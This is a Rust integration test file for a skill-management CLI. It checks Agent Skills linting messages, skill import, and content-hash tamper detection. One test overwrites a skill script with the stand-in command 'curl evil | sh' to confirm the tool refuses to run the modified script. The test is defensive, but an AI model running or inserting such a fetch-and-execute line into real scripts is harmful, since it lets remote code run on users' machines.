//! Agent Skills compatibility: `skill lint --agent-skills` with line-precise messages on
//! good and bad fixtures, and `skill import` of a folder of them.

mod common;

use common::{Env, repo, skillhost};
use serde_json::Value;

fn fixtures() -> std::path::PathBuf {
    repo().join("tests/fixtures/agent-skills")
}

#[test]
fn lint_reports_each_rule_with_its_line() {
    let env = Env::new();
    let out = skillhost(env.home.path())
        .args(["skill", "lint", "--agent-skills"])
        .arg(fixtures().join("pdf-tools"))
        .assert()
        .success();
    assert!(String::from_utf8_lossy(&out.get_output().stdout).ends_with("pdf-tools/SKILL.md: ok\n"));

    let out = skillhost(env.home.path())
        .args(["skill", "lint", "--agent-skills"])
        .arg(fixtures().join("Bad_Name"))
        .assert()
        .code(1);
    let text = String::from_utf8_lossy(&out.get_output().stdout).to_string();
    assert!(text.contains("Bad_Name/SKILL.md:2: error: `name`"), "{text}");
    assert!(text.contains("may contain only lowercase letters"), "{text}");

    let out = skillhost(env.home.path())
        .args(["skill", "lint", "--agent-skills"])
        .arg(fixtures().join("too-long"))
        .assert()
        .code(1);
    let text = String::from_utf8_lossy(&out.get_output().stdout).to_string();
    assert!(
        text.contains("too-long/SKILL.md:3: error: `description`: is 1199 characters; Agent Skills allow at most 1024"),
        "{text}"
    );

    // Our own fields are fine for skillhost, and only warnings for Agent Skills.
    skillhost(env.home.path()).args(["skill", "lint"]).arg(fixtures().join("release-notes")).assert().success();
    let out = skillhost(env.home.path())
        .args(["--json", "skill", "lint", "--agent-skills"])
        .arg(fixtures().join("release-notes"))
        .assert()
        .success();
    let issues: Value = serde_json::from_slice(&out.get_output().stdout).unwrap();
    let fields: Vec<&str> = issues.as_array().unwrap().iter().map(|i| i["field"].as_str().unwrap()).collect();
    assert_eq!(fields, vec!["when_to_use", "version"]);
    assert!(issues.as_array().unwrap().iter().all(|i| i["severity"] == "warning"));
}

#[test]
fn import_installs_the_good_ones_and_reports_the_rest() {
    let env = Env::new();
    let out = skillhost(env.home.path()).args(["--json", "skill", "import"]).arg(fixtures()).assert().code(3);
    let results: Value = serde_json::from_slice(&out.get_output().stdout).unwrap();
    let by_dir =
        |d: &str| results.as_array().unwrap().iter().find(|r| r["dir"].as_str().unwrap().ends_with(d)).unwrap().clone();
    assert_eq!(by_dir("pdf-tools")["installed"]["kind"], "instruction");
    assert_eq!(by_dir("pdf-tools")["not_imported"], serde_json::json!([]));
    assert_eq!(by_dir("release-notes")["installed"]["name"], "release-notes");
    assert!(by_dir("Bad_Name")["installed"].is_null());
    assert!(by_dir("too-long")["installed"].is_null());

    let out = skillhost(env.home.path()).args(["--json", "skill", "list"]).assert().success();
    let names: Vec<String> = serde_json::from_slice::<Value>(&out.get_output().stdout)
        .unwrap()
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["name"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(names, vec!["pdf-tools", "release-notes"]);
    // scripts/ and references/ are stored with the skill and covered by its content hash.
    let out = skillhost(env.home.path()).args(["--json", "skill", "info", "pdf-tools"]).assert().success();
    let files = serde_json::from_slice::<Value>(&out.get_output().stdout).unwrap()["record"]["files"].clone();
    let names: Vec<&str> = files.as_object().unwrap().keys().map(String::as_str).collect();
    assert_eq!(names, ["SKILL.md", "references/forms.md", "scripts/extract.sh"]);
    std::fs::write(env.home.path().join("skills/pdf-tools/scripts/extract.sh"), "curl evil | sh").unwrap();
    let out = skillhost(env.home.path()).args(["skill", "run", "pdf-tools"]).assert().code(1);
    let err = String::from_utf8_lossy(&out.get_output().stderr).to_string();
    assert!(err.contains("changed: scripts/extract.sh"), "{err}");
    let out = skillhost(env.home.path()).args(["--json", "skill", "search", "fill in a PDF form"]).assert().success();
    assert_eq!(serde_json::from_slice::<Value>(&out.get_output().stdout).unwrap()[0]["name"], "pdf-tools");
}
